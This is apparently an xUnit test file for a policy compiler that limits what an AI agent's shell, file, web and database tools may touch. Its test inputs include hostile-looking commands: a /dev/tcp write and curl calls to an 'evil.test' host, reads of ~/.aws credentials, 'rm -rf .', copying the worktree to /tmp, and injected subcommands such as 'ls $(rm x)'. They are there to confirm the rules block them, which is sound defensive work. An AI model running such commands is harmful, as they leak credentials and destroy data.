using System;
using System.Collections.Generic;
using System.Linq;
using Gate.Compiler;
using Gate.Policy;
using Gate.Tests.Support;
using Xunit;

namespace Gate.Tests.Compiler;

/// <summary>What a profile holds single tools to.</summary>
public class ToolLimitTests
{
    private static readonly Calls
        s_roots = Calls.WithProfile("tools: [{name: t, tools: [Read, Write, Bash], roots: [., ~/notes, /srv/data, '**/shared']}]\n"),
        s_denied = Calls.WithProfile("tools: [{name: t, tools: [Read, Write, Bash], denied-paths: [./legal, ~/.aws, '**/*.pem']}]\n"),
        s_domains = Calls.WithProfile("tools: [{name: t, tools: [WebFetch, Bash], allowed-domains: [example.com, '*.example.org']}]\n"),
        s_arguments = Calls.WithProfile("tools: [{name: t, tools: mcp__db__*, arguments: {required: [query], allowed: [query, limit, tags], denied: drop, kinds: {query: text, limit: [number, 'null'], tags: list}}}]\n"),
        s_prefixes = Calls.WithProfile("tools: [{name: t, tools: Bash, allow-prefixes: [ls, git status, git log --oneline, npm run build, mytool]}]\n"),
        s_patterns = Calls.WithProfile("tools: [{name: t, tools: [Bash, Write], outcome: ask, deny-patterns: ['^git push .*prod', '[.]lock$']}]\n");

    [Theory]
    [InlineData("cat README.md src/a.c", "")]
    [InlineData("cat ~/notes/a", "")]
    [InlineData("cat /srv/data", "")]
    [InlineData("cat /srv/data/a/b", "")]
    [InlineData("cat /mnt/x/shared/y", "")]
    [InlineData("cat /srv/database", "tools.t.roots")]
    [InlineData("cat ~/notes2/a", "tools.t.roots")]
    [InlineData("cat ~/a", "tools.t.roots")]
    [InlineData("cat ../other/a", "tools.t.roots")]
    [InlineData("cd /etc && cat hosts", "tools.t.roots")]
    [InlineData("cat \"$x\"", "tools.t.roots")]
    [InlineData("cat src/*.c", "")]
    [InlineData("cat */../../x", "tools.t.roots")]
    [InlineData("echo x > ~/b", "tools.t.roots")]
    public void Roots_are_not_left(string command, string rules) => Assert.Equal(rules, Calls.RulesOf(s_roots.Bash(command)));

    [Fact]
    public void Limits_hold_for_the_tools_they_name()
    {
        Assert.Equal(Outcome.Deny, s_roots.Tool("Read", """{"file_path":"/home/dev/a"}""").Outcome);
        Assert.Equal("", Calls.RulesOf(s_roots.Tool("Edit", """{"file_path":"/home/dev/a","old_string":"a","new_string":"b"}""")));
        Assert.Equal("", Calls.RulesOf(s_roots.Tool("Read", """{"file_path":"/home/dev/project/a"}""")));
    }

    [Theory]
    [InlineData("cat legal/a", true)]
    [InlineData("cat legal", true)]
    [InlineData("cat legalese/a", false)]
    [InlineData("cat ~/.aws/x", true)]
    [InlineData("cat src/a.pem", true)]
    [InlineData("cat README.md", false)]
    [InlineData("ls src", false)]
    [InlineData("rm -rf .", true)]
    [InlineData("cp -r . /tmp/x", true)]
    [InlineData("cat le*/a", true)]
    [InlineData("cat \"$x\"", true)]
    public void Denied_paths_are_not_reached_from_above_either(string command, bool denied) => Assert.Equal(denied, Calls.RulesOf(s_denied.Bash(command)).Contains("tools.t.denied-paths", StringComparison.Ordinal));

    [Theory]
    [InlineData("curl https://example.com/x", false)]
    [InlineData("curl https://a.example.org/x", false)]
    [InlineData("curl https://example.org/x", true)]
    [InlineData("curl https://example.com.evil.test/x", true)]
    [InlineData("curl \"https://$h/x\"", true)]
    [InlineData("curl https://example.com https://evil.test", true)]
    [InlineData("echo x > /dev/tcp/evil.test/80", true)]
    public void Only_allowed_domains_are_talked_to(string command, bool denied) => Assert.Equal(denied, Calls.RulesOf(s_domains.Bash(command)) == "tools.t.allowed-domains");

    [Theory]
    [InlineData("""{"query":"x"}""", false)]
    [InlineData("""{"query":"x","limit":5,"tags":["a"]}""", false)]
    [InlineData("""{"query":"x","limit":null}""", false)]
    [InlineData("""{"query":"x","limit":"5"}""", true)]
    [InlineData("""{"query":["x"]}""", true)]
    [InlineData("""{"query":null}""", true)]
    [InlineData("""{}""", true)]
    [InlineData("""{"limit":5}""", true)]
    [InlineData("""{"query":"x","other":1}""", true)]
    [InlineData("""{"query":"x","drop":true}""", true)]
    [InlineData("""{"query":"x","dr\u006fp":true}""", true)]
    [InlineData("""{"query":"x","tags":[{"drop":true,"other":1}]}""", false)]
    public void Arguments_keep_their_bounds(string input, bool denied)
    {
        Assert.Equal(denied, s_arguments.Tool("mcp__db__ask", input).Parts.Any(part => part.Rule == "tools.t.arguments"));
        Assert.DoesNotContain("tools.t.arguments", Calls.RulesOf(s_arguments.Tool("mcp__other__ask", input)), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ls", true)]
    [InlineData("ls -la src", true)]
    [InlineData("'ls' -l", true)]
    [InlineData("/bin/ls -l", true)]
    [InlineData("l=ls; $l", true)]
    [InlineData("lsof", false)]
    [InlineData("ls; rm x", false)]
    [InlineData("ls && ls -l", true)]
    [InlineData("ls | sh", false)]
    [InlineData("ls $(rm x)", false)]
    [InlineData("ls > x", false)]
    [InlineData("./ls", false)]
    [InlineData("/tmp/ls", false)]
    [InlineData("sudo ls", false)]
    [InlineData("timeout 5 ls", false)]
    [InlineData("bash -c ls", false)]
    [InlineData("$x", false)]
    [InlineData("git status", true)]
    [InlineData("git status -s", true)]
    [InlineData("git stash", false)]
    [InlineData("git -C /x status", false)]
    [InlineData("git $x", false)]
    [InlineData("git log --oneline -3", true)]
    [InlineData("git log -3", false)]
    [InlineData("npm run build", true)]
    [InlineData("npm run build-all", false)]
    [InlineData("npm run", false)]
    [InlineData("mytool start", true)]
    [InlineData("./mytool start", false)]
    [InlineData("cd src && ls", true)]
    public void Prefixes_are_whole_words_of_every_command(string command, bool passes)
    {
        Decision decision = s_prefixes.Bash(command);
        Assert.True(passes != Calls.RulesOf(decision).Contains("tools.t.allow-prefixes", StringComparison.Ordinal), Shipped.Show(decision));
    }

    [Theory]
    [InlineData("git push origin prod", true)]
    [InlineData("git   push 'origin'  \"pr\"od", true)]
    [InlineData("echo git push prod", false)]
    [InlineData("touch yarn.lock", true)]
    [InlineData("touch yarn.locked", false)]
    public void Patterns_look_at_words_as_they_are_run(string command, bool asked) => Assert.Equal(asked, Calls.RulesOf(s_patterns.Bash(command)) == "tools.t.deny-patterns");

    [Fact]
    public void Patterns_look_at_what_other_tools_act_on() =>
        Assert.Equal((Outcome.Ask, "tools.t.deny-patterns"), (s_patterns.Tool("Write", """{"file_path":"/home/dev/project/a.lock","content":"x"}""").Outcome, Calls.RulesOf(s_patterns.Tool("Write", """{"file_path":"/home/dev/project/a.lock","content":"x"}"""))));

    public static TheoryData<string, string> Wrong => new()
    {
        { "tools: [{tools: Bash, roots: /a}]", "the key 'name' is missing" },
        { "tools: [{name: A b, tools: Bash, roots: /a}]", "a name is made of a-z" },
        { "tools: [{name: a, roots: /a}]", "an entry needs 'tools'" },
        { "tools: [{name: a, tools: Bash}]", "an entry needs a limit or a switch" },
        { "tools: [{name: a, tools: Bash, roots: /a}, {name: a, tools: Read, roots: /b}]", "there is another entry 'a'" },
        { "tools: [{name: a, tools: Bash, roots: a/b}]", "'a/b' must begin with '/', '~', '.' (the worktree) or '**/'" },
        { "tools: [{name: a, tools: Bash, root: /a}]", "did you mean 'roots'?" },
        { "tools: [{name: a, tools: Bash, allow-prefixes: ['ls; rm']}]", "a prefix holds plain words" },
        { "tools: [{name: a, tools: Bash, allow-prefixes: ['git *']}]", "a prefix holds plain words" },
        { "tools: [{name: a, tools: Bash, deny-patterns: ['(']}]", "the regular expression is wrong" },
        { "tools: [{name: a, tools: Bash, arguments: {kinds: {a: words}}}]", "'words' is not a known a" },
        { "tools: [{name: a, tools: Bash, arguments: {required: [a, a]}}]", "'a' stands twice" },
        { "tools: [{name: a, tools: Bash, arguments: {}}]", "must not be empty" },
        { "tools: [{name: a, tools: Bash, outcome: allow, roots: /a}]", "'allow' is not a known outcome" },
        { "levels: [irreversibel]", "did you mean 'irreversible'?" },
    };

    [Theory]
    [MemberData(nameof(Wrong))]
    public void What_is_wrong_is_said(string lines, string message)
    {
        _ = Policies.Load(out List<string> problems, Policies.File("profiles/a.yaml", $"profile: a\n{lines}\n"));
        Assert.Contains(problems, problem => problem.Contains(message, StringComparison.Ordinal));
    }
}
